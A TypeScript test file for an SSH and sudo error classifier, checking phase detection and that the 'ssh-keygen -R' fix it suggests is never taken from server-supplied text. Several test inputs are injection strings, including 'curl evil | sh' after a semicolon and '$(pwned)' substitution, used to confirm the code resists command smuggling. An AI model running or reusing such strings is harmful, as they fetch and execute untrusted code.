import { describe, expect, test } from 'vitest';
import { privilegeError } from '../../../src/host/privilege';
import { sshFailure } from '../../../src/host/sshFailure';

test.each([
  ['ssh: Could not resolve hostname nope: Name or service not known', 'resolve'],
  ['ssh: connect to host h port 22: Connection refused', 'connect'],
  ['ssh: connect to host h port 22: Connection timed out', 'connect'],
  ['ssh: connect to host h port 22: No route to host', 'connect'],
  ['u@h: Permission denied (publickey).', 'login'],
  ['Host key verification failed.', 'host-key'],
  ['@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed.', 'host-key'],
  ['client_loop: send disconnect: Broken pipe', 'lost'],
  ['unix_listener: cannot bind to path /no/such/h.x: No such file or directory', 'start'],
  ['unix_listener: path "/a/long/one" too long for Unix domain socket', 'start'],
  ['No user exists for uid 54321', 'start'],
  ['Unauthorized use: permission denied.\nssh: connect to host h port 22: Connection refused', 'connect'],
  ['something new', 'connect'],
])('%s', (stderr, phase) => {
  const error = sshFailure('h', stderr);
  expect(error).toMatchObject({ phase, detail: stderr });
  expect(error.message).toContain(stderr.split('\n').at(-1));
});

test('a changed host key is never offered to be accepted', () => {
  expect(sshFailure('h', 'REMOTE HOST IDENTIFICATION HAS CHANGED!').message).toContain('ssh-keygen -R h');
});

test('what had begun to answer was reached: the connection broke', () => {
  expect(sshFailure('h', '', true).phase).toBe('lost');
});

test('why nobody could be asked stands in the refusal of a login, and nowhere else', () => {
  const message = (stderr: string) => sshFailure('h', stderr, false, 'No program can be started.').message;
  expect(message('u@h: Permission denied (password).')).toContain('No program can be started.');
  expect(message('Host key verification failed.')).toContain('No program can be started.');
  expect(message('ssh: connect to host h port 22: Connection refused')).not.toContain('No program');
});

test.each([
  ['sudo: you do not exist in the passwd database', 'no-account'],
  ['sudo: unknown uid 54321: who are you?', 'no-account'],
  ['sudo: a password is required', 'other'],
])('%s', (said, problem) => {
  expect(privilegeError(said)).toMatchObject({ problem, message: said });
});

describe('the command that removes an old key', () => {
  const changed = (more: string) =>
    sshFailure(
      'h',
      `@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n${more}\nHost key verification failed.`,
    ).message;

  test('is the one that Debian’s ssh prints', () =>
    expect(changed("  ssh-keygen -f '/home/u/.ssh/known_hosts' -R '[127.0.0.1]:2222'")).toContain(
      `with "ssh-keygen -f /home/u/.ssh/known_hosts -R '[127.0.0.1]:2222'" and`,
    ));
  test('names the host as ssh knows it', () =>
    expect(
      changed('Host key for gate.example has changed and you have requested strict checking.'),
    ).toContain('with "ssh-keygen -R gate.example" and'));
  test.each([
    'ssh-keygen -f /x -R y; curl evil | sh',
    "ssh-keygen -f '/x' -R '$(pwned)'",
    'Host key for x;pwned has changed',
    'ssh-keygen -f "/x;pwned" -R "-pwned"',
  ])('is not what a server’s banner says: %s', (banner) =>
    expect(changed(banner).split(' ssh said:')[0]).toContain('with "ssh-keygen -R h" and'),
  );
  test('and a host of any name is one word of what is to be typed', () =>
    expect(sshFailure('a;pwned', 'u@h: Permission denied (publickey).').message).toContain(
      `"ssh 'a;pwned'"`,
    ));
});
